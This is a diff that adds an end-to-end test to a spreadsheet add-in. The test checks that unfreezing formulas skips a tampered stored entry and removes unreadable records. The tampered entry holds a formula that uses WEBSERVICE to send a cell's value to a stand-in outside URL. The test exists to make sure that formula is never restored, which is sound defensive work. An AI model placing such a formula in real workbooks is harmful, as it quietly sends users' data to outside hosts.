@@ -224,6 +224,38 @@ test('Unfreeze restores the selected frozen formulas; it leaves changed cells, w
   expect(await formulaAt('Some!B3')).toBe(figure('profit_after_tax'));
 });
 
+test('Unfreeze leaves a stored formula that calls more than Spillway, and records that cannot be read are removed', async () => {
+  const figure = '=FIN.METRIC("AURELKA","FY2026","sales")';
+  await openSheet('Shared', [['B2', figure]]);
+  await select('Shared!B2');
+  await button(page, 'Freeze').click();
+  await said('Froze 1 formula.');
+  await page.evaluate(async () => {
+    const book = window.spillwayWorkbook;
+    const [key = ''] = (await book?.metadataKeys()) ?? [];
+    const record = JSON.parse((await book?.readMetadata(key)) ?? '') as {
+      entries: Record<string, { formula: string }>;
+    };
+    const entry = { ...record.entries['0'], at: 'D9', area: 'D9', formula: '=FIN.TODAY()&WEBSERVICE("https://x/"&A1)' };
+    await book?.writeMetadata(key, JSON.stringify({ ...record, entries: { ...record.entries, 1: entry } }));
+    await book?.writeMetadata('freeze:%ZZ', JSON.stringify({ ...record, entries: undefined }));
+  });
+  await page.getByRole('tab', { name: 'Find' }).click();
+  await page.getByRole('tab', { name: 'Activity' }).click();
+  const frozen = section('Frozen formulas');
+  await frozen.getByText('This one calls WEBSERVICE.').waitFor();
+  await frozen.getByText('1 stored record cannot be read').waitFor();
+  await select('Shared!F20');
+  await button(page, 'Unfreeze').click();
+  await said('1 formula back. 1 formula was left: Unfreeze does not write such a formula.');
+  expect([await formulaAt('Shared!B2'), await formulaAt('Shared!D9')]).toEqual([figure, '']);
+  await frozen.getByRole('button', { name: 'Forget it' }).click();
+  await frozen.getByText('1 stored record cannot be read').waitFor({ state: 'detached' });
+  await frozen.getByRole('button', { name: 'Forget', exact: true }).click();
+  await frozen.getByText('WEBSERVICE').waitFor({ state: 'detached' });
+  expect(await page.evaluate(() => window.spillwayWorkbook?.metadataKeys())).toEqual([]);
+});
+
 test('Repair formulas re-enters the formulas that show #NAME?, and shows their number', async () => {
   await openSheet('Broken', [
     ['B2', '=_xldudf_FIN_METRIC("AURELKA","FY2026","sales")'],
